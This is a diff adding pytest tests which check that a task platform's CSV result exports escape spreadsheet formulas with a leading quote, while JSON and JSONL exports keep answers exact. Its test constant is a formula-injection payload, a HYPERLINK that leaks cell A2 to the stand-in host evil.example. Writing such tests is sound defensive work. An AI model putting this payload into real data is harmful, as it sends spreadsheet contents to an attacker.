@@ -106,3 +106,51 @@ def test_results_by_api_paginated_and_isolated(requester, requester_org, outside
     other.force_authenticate(outsider)
     assert other.get(f"/api/v1/task-sets/{task_set.pk}/results/").status_code == 404
     assert other.get(f"/api/v1/task-sets/{task_set.pk}/results.csv").status_code == 404
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?leak="&A2,"Open")'
+
+
+@pytest.fixture
+def formula_set(requester, requester_org):
+    """A transcription whose every answer is a spreadsheet formula."""
+    task_set = TaskSet.objects.create(
+        organization=requester_org, created_by=requester, title="Receipts",
+        kind="transcription", reward_minor=5, assignments_per_task=2,
+    )  # fmt: skip
+    task = Task.objects.create(task_set=task_set, external_id="@id", payload_text="x")
+    now = timezone.now()
+    for _ in range(2):
+        Assignment.objects.create(
+            task=task, task_set=task_set, worker=WorkerProfileFactory(status="vetted").user,
+            status="submitted", answer=FORMULA, claimed_at=now,
+            expires_at=now + timedelta(minutes=10), submitted_at=now,
+            reward_minor=5, currency="USD",
+        )  # fmt: skip
+    return task_set
+
+
+def test_a_formula_in_results_csv_is_written_as_text_on_the_web(client, requester, formula_set):
+    client.force_login(requester)
+    response = client.get(reverse("task_set_export", args=[formula_set.pk, "csv"]))
+    (row,) = csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode()))
+    assert row["aggregated_answer"] == "'" + FORMULA
+    assert row["external_id"] == "'@id"
+    # The answers stay exact inside the JSON column, which starts with "[".
+    assert json.loads(row["answers"])[0]["answer"] == FORMULA
+
+
+def test_a_formula_in_results_csv_is_written_as_text_through_the_api(
+    requester, requester_org, formula_set
+):
+    client = APIClient()
+    key = accounts.create_api_key(organization=requester_org, actor=requester, name="r").secret
+    client.credentials(HTTP_AUTHORIZATION=f"Bearer {key}")
+    response = client.get(f"/api/v1/task-sets/{formula_set.pk}/results.csv")
+    assert response.status_code == 200
+    (row,) = csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode()))
+    assert row["aggregated_answer"] == "'" + FORMULA
+    # JSON Lines is data, not a spreadsheet: the answer comes back exactly as typed.
+    streamed = client.get(f"/api/v1/task-sets/{formula_set.pk}/results.jsonl")
+    result = json.loads(b"".join(streamed.streaming_content))
+    assert result["aggregated_answer"] == FORMULA
